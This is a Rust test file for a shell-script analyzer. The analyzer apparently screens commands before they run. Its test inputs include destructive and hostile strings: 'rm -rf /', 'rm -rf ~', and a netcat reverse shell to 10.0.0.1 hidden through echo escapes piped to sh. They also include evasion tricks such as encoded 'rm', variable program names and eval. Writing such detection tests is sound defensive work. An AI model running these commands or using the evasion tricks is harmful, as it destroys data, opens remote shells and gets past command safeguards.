use super::*;

fn env() -> Env {
    Env {
        cwd: Some("/home/dev/project".into()),
        home: Some("/home/dev".into()),
        tmpdir: "/tmp".into(),
        programs: crate::pack::builtin_programs(),
        disk: Default::default(),
    }
}

fn commands(script: &str) -> Vec<String> {
    analyze_now(script, &env())
        .commands
        .iter()
        .map(Command::display)
        .collect()
}

#[test]
fn braces_expand_like_bash_and_quotes_stop_them() {
    assert_eq!(brace_expand("{rm,-rf,/}"), ["rm", "-rf", "/"]);
    assert_eq!(brace_expand("/{etc,usr}/x"), ["/etc/x", "/usr/x"]);
    assert_eq!(brace_expand("a{1..3}"), ["a1", "a2", "a3"]);
    assert_eq!(brace_expand("'{a,b}'"), ["'{a,b}'"]);
    assert_eq!(brace_expand("${x}"), ["${x}"]);
    assert_eq!(brace_expand("{}"), ["{}"]);
    assert_eq!(brace_expand("{1..100000}"), ["{1..100000}"]);
}

/// Regressions from `toolgate evade` and the pipeline fuzzer (issue 12).
#[test]
fn printed_text_is_read_as_the_reader_would() {
    // A substitution's value is what bash's echo prints: `\n` as written.
    let a = analyze_now(r#"git commit -m "$(echo 'fix\nbug')""#, &env());
    assert_eq!(a.commands.last().unwrap().args[2].text, r"fix\nbug");
    // A shell reading a pipe may have been fed by zsh's echo: both readings are run.
    let shown = commands(r"echo '\nc -e /bin/sh 10.0.0.1 4444' | sh");
    assert!(
        shown.iter().any(|c| c.starts_with("nc -e /bin/sh")),
        "{shown:?}"
    );
    // printf reads escapes in its format, never in a %s argument.
    let shown = commands(r"printf '%s' 'bash -c '\''rm -rf ~'\''' | xargs -0 bash -c");
    assert!(shown.iter().any(|c| c.starts_with("rm -rf")), "{shown:?}");
}

#[test]
fn ansi_c_strings_decode() {
    assert_eq!(decode_ansi_c("\\x72m"), "rm");
    assert_eq!(decode_ansi_c("\\162m"), "rm");
    assert_eq!(decode_ansi_c("a\\nb\\u0041"), "a\nbA");
}

#[test]
fn nesting_is_estimated_through_quotes() {
    assert_eq!(nesting_depth("echo ')))' ((( x )))"), 3);
    assert_eq!(nesting_depth("if a; then if b; then c; fi; fi"), 2);
    assert_eq!(nesting_depth("echo fi fi fi"), 0);
    assert!(nesting_depth(&"$(".repeat(100)) > MAX_NESTING);
    assert!(nesting_depth(&"{ ".repeat(100)) > MAX_NESTING);
}

/// Regression (found by cargo fuzz): brush-parser panics on `~` followed by a number past
/// u64; the panic is caught and reported as a parser failure (which denies).
#[test]
fn parser_panics_are_caught_and_reported() {
    guard_parser_panics();
    let a = analyze_now("~5555555555555555555555&%", &env());
    assert!(
        a.notes.iter().any(|n| n.kind == NoteKind::ParserFailure),
        "{:?}",
        a.notes
    );
    let a = analyze_now("echo ok", &env());
    assert!(a.notes.is_empty());
}

/// Regression (found by cargo fuzz): mixed nesting well inside the bounds still took
/// seconds to parse; the time budget ends it with a parser failure.
#[test]
fn slow_parses_end_at_the_budget() {
    let fuzzed = "((((t[-4q[${a4q[${aq[${q[${a[(}}}$";
    let start = std::time::Instant::now();
    let a = analyze(fuzzed, &env());
    assert!(
        start.elapsed() < PARSE_BUDGET * 3,
        "took {:?}",
        start.elapsed()
    );
    assert!(!a.notes.is_empty());
}

/// Regression (found by cargo fuzz): nested parentheses take exponential time to parse.
#[test]
fn deep_parentheses_are_refused_before_parsing() {
    let fuzzed = "((((((((((((((((((((()((((((\n(()((((((\n>";
    assert!(paren_depth(fuzzed) > MAX_PAREN_NESTING);
    assert_eq!(
        refuse_before_parsing(fuzzed).map(|n| n.kind),
        Some(NoteKind::TooComplex)
    );
    assert_eq!(paren_depth("echo $(( (1 + 2) * 3 )) $(ls)"), 3);
}

/// Regression (found by cargo fuzz): brush-parser panics on an fd number past i32.
#[test]
fn oversized_fd_numbers_are_refused_before_parsing() {
    assert!(has_oversized_fd_number("888888888888888>"));
    assert!(!has_oversized_fd_number("echo 2>/dev/null 123456789>x"));
    let a = analyze("echo 88888888888888>x", &env());
    assert_eq!(a.notes[0].kind, NoteKind::TooComplex);
    assert_eq!(
        refuse_before_parsing("888888888888888>").map(|n| n.kind),
        Some(NoteKind::TooComplex)
    );
}

/// Regression (found by cargo fuzz): a backslash before a multi-byte character made the
/// nesting scan slice a string inside a character and panic.
#[test]
fn nesting_scan_survives_escaped_multibyte_characters() {
    let script = String::from_utf8(vec![92, 216, 163, 209, 167, 40, 92]).unwrap();
    assert_eq!(nesting_depth(&script), 1);
    let _ = analyze_now(&script, &env());
}

#[test]
fn hazardous_heredocs_are_refused_before_parsing() {
    assert!(has_hazardous_heredoc("cat <<\"\" "));
    assert!(has_hazardous_heredoc("x <<$( (#"));
    assert!(!has_hazardous_heredoc("cat <<EOF\nx\nEOF"));
    assert!(!has_hazardous_heredoc("cat <<< 'x'"));
    assert!(!has_hazardous_heredoc("echo $((1<<3))"));
    assert!(!has_hazardous_heredoc("cat <<-'EOF'\nx\nEOF"));
    // Regression (found by cargo fuzz): this looped forever in brush-parser 0.4.0.
    assert!(has_hazardous_heredoc("<<\r<\r#\0)#\0-`"));
    assert!(has_hazardous_heredoc("cat <<"));
}

#[test]
fn substitutions_inside_opaque_text_are_found() {
    assert_eq!(
        extract_substitutions("1 + $(rm -rf /) + `ls`"),
        ["rm -rf /", "ls"]
    );
    assert!(extract_substitutions("$(( 1 + 2 ))").is_empty());
}

#[test]
fn wrappers_strip_and_nested_code_is_followed() {
    assert_eq!(
        commands("sudo -u root env A=1 nice -n 5 rm -rf /x"),
        ["A=1 rm -rf /x"]
    );
    assert_eq!(
        commands("bash -c 'git status; ls'"),
        ["bash -c git status; ls", "git status", "ls"]
    );
    assert_eq!(commands("echo $(whoami)"), ["whoami", "echo $(whoami)"]);
    assert_eq!(
        commands("find . -exec rm {} \\;"),
        ["rm {}", "find . -exec"]
    );
}

#[test]
fn cd_and_assignments_are_tracked() {
    let a = analyze_now("cd /srv && x=rm && $x -rf app", &env());
    let last = a.commands.last().unwrap();
    assert_eq!(last.program, "rm");
    assert_eq!(last.cwd.as_deref(), Some("/srv"));
    let a = analyze_now("(cd /srv); pwd", &env());
    assert_eq!(
        a.commands.last().unwrap().cwd.as_deref(),
        Some("/home/dev/project")
    );
}

#[test]
fn what_cannot_be_known_is_noted() {
    let kinds = |s: &str| {
        analyze_now(s, &env())
            .notes
            .iter()
            .map(|n| n.kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(kinds("$X -rf /"), [NoteKind::DynamicProgram]);
    assert_eq!(kinds("eval \"$CODE\""), [NoteKind::HiddenCode]);
    assert_eq!(kinds("echo 'open"), [NoteKind::ParseError]);
    assert_eq!(kinds("cat <<A$( (#"), [NoteKind::ParseError]);
    assert!(kinds("cat <<EOF\n$(date)\nEOF").is_empty());
    assert!(kinds("cat <<< \"$(date)\"").is_empty());
    assert!(kinds("echo ok").is_empty());
}
